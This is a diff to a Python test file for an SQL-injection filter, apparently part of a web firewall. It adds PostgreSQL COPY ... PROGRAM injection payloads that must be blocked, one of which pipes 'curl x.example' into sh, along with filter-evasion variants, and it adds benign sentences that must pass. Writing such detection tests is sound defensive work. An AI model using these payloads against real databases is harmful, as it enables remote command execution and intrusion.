@@ -101,12 +101,17 @@ class SQLiTests(ClassCase):
             (b"Content-Type", b"application/x-www-form-urlencoded")], b"Compress%20%28"), "sqli")
 
     def test_copy_program(self) -> None:
-        """PostgreSQL's COPY that runs a command, of a table or of a query, with or without ';'."""
+        """A stacked PostgreSQL COPY that runs a command, of a table or of a query, however spaced."""
         for payload in ("1'; COPY (SELECT '') TO PROGRAM 'curl x.example|sh'--",
-                        "x' copy cmd_exec from program 'id'--", "COPY t(c) FROM PROGRAM $$id$$"):
+                        "x'; copy cmd_exec from program 'id'--", "1;COPY t(c) FROM PROGRAM $$id$$",
+                        "1;COPY (SELECT 1)TO PROGRAM 'id'", "1;COPY BINARY t FROM PROGRAM 'id'",
+                        "1;COPY\"t\"FROM PROGRAM 'id'", "x';COPY (SELECT ';')TO PROGRAM 'id'--",
+                        "1;COPY/**/t/**/FROM/**/PROGRAM/**/'id'"):
             self.blocked(query(payload), "sqli")
         for text in ("please copy the files to the program folder",
-                     "Copy this text to the program 'Notepad' and save it"):
+                     "Copy this text to the program 'Notepad' and save it",
+                     "How do I copy data from program 'Excel' into Word?",
+                     "copy text from program \"Word\" and paste it"):
             self.passes(query(text))
 
     def test_expression_lookalikes(self) -> None:
